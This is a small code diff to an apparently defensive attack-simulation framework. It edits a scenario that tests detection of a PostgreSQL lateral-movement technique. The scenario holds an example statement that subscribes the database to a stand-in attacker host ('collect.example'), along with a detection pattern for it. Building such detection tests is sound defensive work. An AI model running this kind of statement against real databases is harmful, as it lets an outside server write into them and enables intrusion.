@@ -1,7 +1,6 @@
 """F5: a subscription lets another server write into this one."""
 
 from backwatch.attack.clients.psycopg2 import Psycopg2
-from backwatch.attack.protocols.tables import PostgreSQLOfTables
 from backwatch.attack.scenarios import Run
 from backwatch.attack.techniques.sql import ReportPage
 
@@ -13,7 +12,6 @@ class Subscribes(ReportPage):
     attack = "subscribes the database to a server of the attacker's"
     reference = "https://attack.mitre.org/techniques/T1210/"
     rule = "lateral-movement"
-    server = PostgreSQLOfTables
     captures = b"CREATE SUBSCRIPTION"
     statement = "CREATE SUBSCRIPTION s CONNECTION 'host=collect.example dbname=shop' PUBLICATION p"
     runs = (Run(Psycopg2),)
